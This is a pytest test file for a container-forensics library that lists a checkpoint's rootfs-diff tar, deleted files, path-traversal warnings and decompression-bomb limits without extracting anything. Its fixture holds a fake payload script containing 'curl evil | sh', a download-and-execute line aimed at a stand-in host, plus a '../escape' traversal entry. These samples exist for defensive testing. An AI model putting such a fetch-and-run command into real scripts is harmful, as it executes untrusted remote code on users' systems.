"""Listing rootfs-diff.tar (plain, or gzip as containerd writes it) and deleted.files without extracting."""

from __future__ import annotations

import json
import tarfile
from pathlib import Path

import pytest

from forensics.locate import Limits, list_rootfs_diff, open_checkpoint, rootfs_diff
from tests.locate.conftest import (
    Member,
    compress,
    make_criu_dir,
    podman_members,
    snapshot,
    tar_bytes,
    write_archive,
)

DIFF = [
    Member("etc", type=tarfile.DIRTYPE),
    Member("etc/passwd", b"root:x:0:0::/root:/bin/sh\n"),
    Member("tmp/payload.sh", b"#!/bin/sh\ncurl evil | sh\n"),
    Member("usr/bin/sh", type=tarfile.SYMTYPE, linkname="busybox"),
    Member("dev/null2", type=tarfile.CHRTYPE, devmajor=1, devminor=3),
    Member("../escape", b"x"),
]


@pytest.mark.parametrize("how", ["none", "gzip"])
@pytest.mark.parametrize("outer", ["none", "zstd"])
def test_rootfs_diff_listing(tmp_path: Path, scratch_root: Path, how: str, outer: str) -> None:
    members = podman_members() + [Member("rootfs-diff.tar", compress(tar_bytes(DIFF), how)),
                                  Member("deleted.files", json.dumps(["/etc/shadow"]).encode())]
    archive = write_archive(tmp_path / "c.tar", members, outer)
    before = snapshot(tmp_path, exclude=scratch_root)
    with open_checkpoint(archive) as src:
        diff = rootfs_diff(src)
        assert diff is not None and diff.complete and diff.compression == how
        by_path = {e.path: e for e in diff.entries}
        assert list(by_path) == ["etc", "etc/passwd", "tmp/payload.sh", "usr/bin/sh", "dev/null2", "../escape"]
        assert by_path["etc"].type == "dir"
        assert (by_path["tmp/payload.sh"].type, by_path["tmp/payload.sh"].size) == ("file", 25)
        assert by_path["tmp/payload.sh"].mode == 0o644 and by_path["tmp/payload.sh"].mtime.year == 2023
        assert (by_path["usr/bin/sh"].type, by_path["usr/bin/sh"].linkname) == ("symlink", "busybox")
        assert by_path["dev/null2"].type == "char"
        assert any("'../escape'" in w for w in diff.warnings)
        assert diff.deleted == ["/etc/shadow"]
    assert snapshot(tmp_path, exclude=scratch_root) == before


def test_no_rootfs_diff(tmp_path: Path) -> None:
    with open_checkpoint(make_criu_dir(tmp_path / "d")) as src:
        assert rootfs_diff(src) is None


def test_damaged_and_bomb(tmp_path: Path) -> None:
    data = tar_bytes(DIFF)
    cut = list_rootfs_diff(data[:1500])
    assert not cut.complete and cut.entries
    bomb = compress(tar_bytes([Member("big", bytes(32 << 20))]), "gzip")
    stopped = list_rootfs_diff(bomb, limits=Limits(max_bytes=1 << 20))
    assert not stopped.complete and any("bomb" in w for w in stopped.warnings)
    assert not list_rootfs_diff(b"not a tar at all").complete
